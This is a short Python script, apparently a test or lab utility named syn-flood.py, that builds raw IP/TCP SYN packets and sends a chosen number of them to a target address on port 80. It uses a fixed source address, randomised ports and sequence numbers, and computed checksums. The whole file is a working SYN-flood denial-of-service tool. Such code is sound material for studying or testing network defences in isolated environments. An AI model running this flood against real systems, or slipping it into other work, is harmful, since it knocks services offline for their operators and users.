"""Sends bare TCP connection requests from one source address of the namespace: python3 syn-flood.py ADDRESS COUNT."""
import random
import socket
import struct
import sys

SOURCE = "192.0.2.66"


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


target, count = sys.argv[1], int(sys.argv[2])
addresses = socket.inet_aton(SOURCE) + socket.inet_aton(target)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(count):
    ports = struct.pack("!HH", random.randint(1024, 65535), 80)
    rest = struct.pack("!IIBBH", random.getrandbits(32), 0, 5 << 4, 0x02, 64240)
    tcp = ports + rest + b"\0\0\0\0"
    check = checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = ports + rest + struct.pack("!HH", check, 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0) + addresses
    raw.sendto(ip + tcp, (target, 0))
